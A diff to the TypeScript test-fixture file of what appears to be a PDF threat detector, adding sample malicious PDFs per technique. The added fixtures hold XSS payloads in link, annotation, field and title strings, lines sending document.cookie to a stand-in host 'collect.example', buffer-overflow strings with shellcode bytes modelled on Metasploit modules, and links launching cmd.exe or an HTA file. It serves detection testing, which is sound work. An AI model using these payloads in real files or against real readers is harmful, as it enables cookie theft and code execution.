@@ -6,7 +6,7 @@ import { deflateSync } from "node:zlib";
 import { wrapInXdp, concat, bytes } from "../../../pdf/testing/pdf-builder";
 import { PE_FILE, makeZip, maliciousPdf, pdfWithAttachments } from "../../embedded/testing/embedded-fixtures";
 import { CVE_2009_0658, EXPLOIT_SWF, exploitBmp, jbig2Image, richMedia, threeD, u3d, xfaWithImage } from "../../embedded/testing/exploit-fixtures";
-import { DOT_RANGE_OVERFLOW, PLAIN_TIFF_TAGS, sfntFont, tiff, xfaImageXml } from "../../facts/formats/testing/format-fixtures";
+import { DOT_RANGE_OVERFLOW, jpeg, OVERFILLED_AC_COUNTS, PLAIN_TIFF_TAGS, sfntFont, tiff, xfaImageXml } from "../../facts/formats/testing/format-fixtures";
 import { buildLurePdf } from "../../pages/testing/lure-pdf";
 import { SHELLCODE, SLED } from "../../javascript/testing/script-fixtures";
 import { annotWithAa, built, formWithButton, goToThen, linkAnnot, plainDocument, scriptAction, xfaEventScript, xfaForm, type PlainParts } from "./fixture-documents";
@@ -42,9 +42,32 @@ function pictureWithLink(url: string): Uint8Array {
   });
 }
 
+/** a PDF body whose \xNN characters are single bytes (latin-1: one byte per char), for strings with non-text bytes */
+const latin1Bytes = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
+
 const LONG_ENCODED = Array.from({ length: 1500 }, (_, i) => "Zm9vYmFy0123456789abcdefXYZ"[i % 27]).join("");
 
 export const CORE_FIXTURES: TechniqueFixtures = {
+  // markup and page scripts for a web-based viewer (luigigubello/PayloadsAllThePDFs' shapes, rewritten)
+  "web-viewer-script-injection": {
+    "uri-markup": () => built({ annots: [linkAnnot(`<< /S /URI /URI (\\">'><details open ontoggle=confirm\\(document.domain\\)>) >>`)] }),
+    "annotation-markup": () => built({ annots: ["<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /T (Reviewer\\\"><img src=x onerror=alert\\(1\\)>) /Contents (Please check the totals.) >>"] }),
+    "field-value-markup": () =>
+      built({
+        setup(b) {
+          const field = b.add("<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<svg/onload=fetch\\('https://collect.example/'+document.cookie\\)>) /Rect [72 600 300 620] >>");
+          return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
+        },
+      }),
+    "info-markup": () => built({ setup: (b) => void (b.info = b.add("<< /Title (Invoice 2026-041<script>alert\\(1\\)</script>) /Producer (Writer) >>")) }),
+    "open-action-page-script": () => built(openAction(scriptAction("document.write('<iframe src=\\'https://collect.example/\\'></iframe>'); var c = document.cookie;"))),
+    "link-page-script": () => built({ annots: [linkAnnot(scriptAction("window.location = 'https://collect.example/?c=' + document.cookie;"))] }),
+  },
+  // a string padded to the overflow offset, then a handler address and shellcode (Metasploit foxit_title_bof's shape, other bytes)
+  "string-overflow-exploit": {
+    "info-title": () => built({ setup: (b) => void (b.info = b.addRaw(latin1Bytes(`<< /Title (Quarterly report${" ".repeat(526)}ZA\x4bj\x41a\x5c\x5cAaATA\xc3\xb30\xb3${"PYIIIIIIIIIICCCCCC7QZjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJI".repeat(8)}) >>`))) }),
+    "annotation-contents": () => built({ annots: [`<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /Contents (${"A".repeat(1200)}\x01\x02\x03\x04\xeb\x06\x90\x90\x12\x45\xfa\x7f) >>`] }),
+  },
   // a shop's order link whose address carried the injection: `) /S /JavaScript /JS (...` and the like
   "pdf-injection": {
     "uri-becomes-javascript": () => built({ annots: [linkAnnot("<< /S /URI /URI (https://shop.example/order?id=) /S /JavaScript /JS (app.alert\\(1\\)) >>")] }),
@@ -64,6 +87,9 @@ export const CORE_FIXTURES: TechniqueFixtures = {
     "page-open": () => built(pageOpen("<< /S /Launch /F (notes.txt) >>")),
     "annotation-aa": () => built({ annots: [annotWithAa("/E << /S /Launch /F (photo.jpg) >>")] }),
     unreferenced: () => built(unreferenced("<< /Type /Action /S /Launch /F (update.zip) >>")),
+    // a link whose URI is a program on the reader's machine, or a command line (PayloadsAllThePDFs' payload3 and payload4)
+    "uri-file-url": () => built({ annots: [linkAnnot("<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>")] }),
+    "uri-command-line": () => built({ annots: [linkAnnot("<< /S /URI /URI (START C:/Users/Public/invoice.hta) >>")] }),
   },
   "script-on-open": {
     "open-action": () => built(openAction(scriptAction(TIMER_SCRIPT))),
@@ -130,6 +156,15 @@ export const CORE_FIXTURES: TechniqueFixtures = {
     "xfa-bmp": () => xfaWithImage(exploitBmp()),
     "jbig2-stream": () => jbig2Image(CVE_2009_0658),
     "predictor-colors": () => built({ setup: (b) => void b.addFlateStream("/DecodeParms << /Predictor 12 /Colors 16777217 /BitsPerComponent 8 /Columns 1 >>", "\x00AAAA") }),
+    // a page drawing a JPEG whose AC table gives 84 one-bit codes (Metasploit coolpdf_image_stream_bof's table)
+    "dct-huffman-table": () =>
+      built({
+        setup(b) {
+          const img = b.addStream("/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode", jpeg({ ac: OVERFILLED_AC_COUNTS }));
+          const content = b.addStream("", "q 200 0 0 200 72 500 cm /Im0 Do Q");
+          return { page: `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R` };
+        },
+      }),
   },
   "media-exploit": {
     "u3d-stream": () => threeD("U3D", u3d({ fileSize: 2612, declSize: 36 })),
